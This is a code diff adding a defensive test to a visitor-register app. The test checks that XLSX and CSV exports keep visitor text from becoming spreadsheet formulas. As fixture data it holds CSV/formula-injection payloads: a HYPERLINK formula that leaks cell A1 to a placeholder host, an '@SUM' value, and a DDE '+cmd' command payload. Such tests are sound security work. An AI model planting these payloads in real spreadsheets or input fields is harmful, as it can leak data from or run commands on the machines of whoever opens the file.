@@ -114,3 +114,32 @@ def test_cli_counter_action_usage_is_translated(db_path):
     out = run_cli("--lang", "id", "skip", "--db", str(db_path))
     assert out.returncode == 2
     assert "give" not in out.stderr and out.stderr.strip()
+
+
+def test_exports_do_not_turn_visitor_text_into_formulas(db, tmp_path):
+    """A question typed as ``=HYPERLINK(...)`` (an online request is written by anyone)
+    must stay text in the XLSX and CSV, never run as a spreadsheet formula."""
+    import csv
+    from datetime import date
+
+    import openpyxl
+
+    from ult_desktop.core.register import RecordInput
+    from ult_desktop.db import register
+    from ult_desktop.reports.export import export_csv, export_xlsx
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"klik")'
+    rec = register.save_record(db, record=RecordInput(visitor_name="@SUM(1+1)", question=evil,
+                                                      phone="+62 812-3456-789",
+                                                      topic="+cmd|' /C calc'!A0"),
+                               channel="phone", service="A")
+    day = date.fromisoformat(rec.day)
+    book = openpyxl.load_workbook(export_xlsx(db, day, day, tmp_path / "r.xlsx"))
+    cells = [c for row in book.worksheets[1].iter_rows(min_row=2) for c in row]
+    assert not [c.value for c in cells if c.data_type == "f"]
+    assert evil in [c.value for c in cells]
+    written = export_csv(db, day, day, tmp_path / "r.csv")
+    with open(written[1], encoding="utf-8-sig", newline="") as f:
+        values = [v for row in list(csv.reader(f))[1:] for v in row]
+    assert not [v for v in values if v[:1] in ("=", "@") or v.startswith("+cmd")]
+    assert rec.data.phone.startswith("+62") and rec.data.phone in values  # stays as stored
